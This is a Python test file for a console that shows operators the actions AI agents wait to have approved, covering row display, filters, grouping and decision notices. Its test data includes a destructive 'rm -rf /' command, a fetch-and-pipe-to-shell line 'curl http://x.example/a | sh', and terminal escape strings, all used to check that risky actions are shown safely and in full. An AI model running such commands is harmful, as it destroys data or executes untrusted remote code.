"""Rows of the queue say who wants what, and for how long."""

from datetime import timedelta

import pytest

from console.folding import fold_all
from console.projection import Snapshot
from console.view_models.approvals import (
    approval_cells,
    group_of,
    oldest_age_s,
    searched,
    settled_words,
)
from console.view_models.filters import parse_filter
from console.view_models.ink import Spans, plain_text
from console.view_models.summary import Brief, Part
from core.actions import RiskLevel
from core.ids import ActionId, AgentId
from core.records import Vote
from tests.console.day import past_events
from tests.console.fakes import MARIA, PAUL, FakeOperator, action_id
from tests.factories import NOW, make_approval


def said(cells: tuple[Spans, ...]) -> list[str]:
    return [plain_text(cell) for cell in cells]


def test_a_row_says_who_wants_what_for_how_long() -> None:
    approval = make_approval(
        id=action_id("8f2a1c"), risk=RiskLevel.HIGH, created_at=NOW - timedelta(seconds=100)
    )
    brief = Brief("rm -rf /", ("ask:shell-risk",))
    assert said(approval_cells(approval, brief, NOW)) == [
        "8f2a1c",
        "▰▰▰▱ HIGH",
        "coder",
        "shell.execute \u203a rm -rf /",
        "1m40s",
        "10m00s",
        "ask:shell-risk",
    ]


@pytest.mark.parametrize("room", [32, 40, 41, 43, 60])
def test_the_risky_program_is_not_cut_off_where_the_room_before_it_is_filled(room: int) -> None:
    part = Part("sh", before="curl http://x.example/a | ", is_later=True)
    brief = Brief("⋯ sh", (), part)
    action = said(approval_cells(make_approval(), brief, NOW, room=room))[3]
    assert len(action) <= room
    assert action.endswith("sh")


def test_votes_delays_and_edits_stand_before_the_action() -> None:
    approval = make_approval(
        votes_needed=2,
        votes=(Vote(operator=PAUL, digest="d", at=NOW),),
        deferred_until=NOW + timedelta(minutes=5),
        arguments_edited={"command": "ls"},
    )
    action = said(approval_cells(approval, None, NOW))[3]
    assert action.startswith("1 of 2  not now 5m00s  edited  shell.execute")


def test_an_expired_action_says_so() -> None:
    assert said(approval_cells(make_approval(expires_at=NOW), None, NOW))[5] == "expired"


def test_agents_words_in_a_row_are_harmless() -> None:
    approval = make_approval(agent_id=AgentId("\x1b[31mroot"), resource="a\u202eb")
    row = "".join(said(approval_cells(approval, Brief("x", ("\x07",)), NOW)))
    assert row.isprintable()


@pytest.mark.parametrize(
    ("words", "fits"),
    [
        ("", True),
        ("agent:cod", True),
        ("risk:medium", True),
        ("kind:shell bash", True),
        ("agent:other", False),
        ("rm", True),
        ("ask:shell-risk", True),
        ("nothing-like-it", False),
    ],
)
def test_filters_look_into_fields_and_text(words: str, *, fits: bool) -> None:
    row = searched(make_approval(), Brief("rm x", ("ask:shell-risk",)))
    assert parse_filter(words, ("agent", "risk", "kind")).fits(row) is fits


def test_a_group_has_one_agent_one_kind_and_the_same_policies() -> None:
    one = make_approval(id=ActionId("1"))
    rows = [
        (one, Brief("", ("p",))),
        (make_approval(id=ActionId("2")), Brief("", ("p",))),
        (make_approval(id=ActionId("3")), Brief("", ("other",))),
        (make_approval(id=ActionId("4"), agent_id=AgentId("b")), Brief("", ("p",))),
        (make_approval(id=ActionId("5"), kind="file.write"), Brief("", ("p",))),
        (make_approval(id=ActionId("6")), None),
    ]
    assert [each.id for each in group_of(one, rows[0][1], rows)] == ["1", "2"]
    assert group_of(one, None, rows) == (one,)


def test_the_oldest_age_is_none_when_nothing_waits() -> None:
    assert oldest_age_s((), NOW) is None
    assert oldest_age_s([make_approval()], NOW + timedelta(seconds=9)) == 9


def test_only_others_decisions_are_told() -> None:
    feed = fold_all(Snapshot(), past_events(FakeOperator())).feed
    told = "f00003 waits no more: denied by paul"
    assert settled_words(action_id("f00003"), feed, besides=MARIA) == told
    assert settled_words(action_id("f00003"), feed) == told
    assert settled_words(action_id("f00003"), feed, besides=PAUL) == ""
    assert settled_words(action_id("f00009"), feed) == ""
